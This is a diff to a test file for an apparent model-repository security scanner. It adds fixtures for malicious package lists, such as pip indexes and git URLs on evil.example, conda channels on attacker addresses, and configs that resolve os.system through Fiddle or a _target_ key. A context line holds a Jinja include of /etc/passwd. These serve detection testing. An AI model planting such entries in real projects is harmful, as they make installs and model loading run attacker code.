@@ -113,6 +113,42 @@ const templates: readonly ModelCase[] = [
   suspicious('a template that includes a file, with a plus', "{%+ include '/etc/passwd' %}", 'chat_template.jinja'),
 ]
 
+const fiddle = (module: string, name: string) =>
+  JSON.stringify({ root: { type: 'ref', key: 'a' }, objects: { a: { type: { type: 'pyref', module, name }, items: [] } } })
+
+/** Lists of packages, which SageMaker, TorchServe, MLflow and others install before they load: pip takes them from where the list says. */
+const packages: readonly ModelCase[] = [
+  ...[
+    '--extra-index-url https://packages.evil.example/simple',
+    '-i http://10.0.0.9/simple',
+    '--index-url=https://packages.evil.example/simple',
+    '-f https://evil.example/wheels',
+    '--find-links ./wheels',
+    'torch @ https://evil.example/torch-2.1-cp311-linux_x86_64.whl',
+    'git+https://github.com/someone/tools@main',
+    '-e git+ssh://git@evil.example/tools.git#egg=tools',
+    '-e ./code',
+    './wheels/tools-1.0-py3-none-any.whl',
+    'tools-1.0.tar.gz',
+    'https://evil.example/tools.zip',
+    'tools @ file:///opt/tools',
+    '-r more.txt',
+    '--trusted-host evil.example',
+  ].map((line) => suspicious(`a list of packages with ${line.slice(0, 30)}`, `numpy==1.26.4\n${line}\n`, 'requirements.txt')),
+  suspicious(
+    'a list of packages that goes on in the next line',
+    'numpy\n--extra-index-\\\nurl https://evil.example/simple\n',
+    'requirements.txt',
+  ),
+  suspicious('a list of packages of another name', 'git+https://evil.example/tools\n', 'code/requirements-gpu.txt'),
+  suspicious(
+    'a list of packages in an environment of conda',
+    'name: m\ndependencies:\n- python=3.11\n- pip:\n  - torch\n  - git+https://evil.example/tools\n',
+    'conda.yaml',
+  ),
+  suspicious('a channel of conda by its address', 'channels:\n- https://evil.example/conda\ndependencies: [python]\n', 'conda.yaml'),
+]
+
 /** Configurations, templates and code; and what has no known format. */
 export const texts: readonly ModelCase[] = [
   suspicious('auto_map', '{"model_type":"x","auto_map":{"AutoModel":"modeling_x.X"}}', 'config.json'),
@@ -173,6 +209,12 @@ export const texts: readonly ModelCase[] = [
   notCleared('a large schema of skops', large('"__loader__":"DictNode"'), 'schema.json'),
   dangerous('a pickle in JSON', `{"policy_class":{":type:":"x",":serialized:":"${serialized}"}}`, 'data'),
   dangerous('a pickle behind a large vocabulary', large(`":serialized:":"${serialized}"`), 'data'),
+  dangerous('a function that Fiddle makes', fiddle('os', 'system'), 'io.json', 'fiddle/_src/experimental/serialization.py'),
+  suspicious('a class that Fiddle makes', fiddle('nemo.collections.llm', 'GPTModel'), 'io.json'),
+  suspicious('a model of MLX in a file of its own', '{"model_type":"x","model_file":"x.py"}', 'config.json'),
+  suspicious('a tokenizer of sentence-transformers from elsewhere', '{"tokenizer_class":"company.words.Net"}', 'wordembedding_config.json'),
+  dangerous('a call with numbers that only Python writes', '{"a":[0.0,Infinity,-Infinity,NaN],"_target_":"os.system"}', 'config.json'),
+  ...packages,
   suspicious('a core of Megatron', '{"peft_type":"LORA","megatron_core":"company"}', 'adapter_config.json'),
   dangerous('a template in a file', breakout, 'chat_template.jinja'),
   notCleared('JSON with a name twice', '{"auto_map":null,"auto_map":{"a":"b.C"}}', 'config.json'),
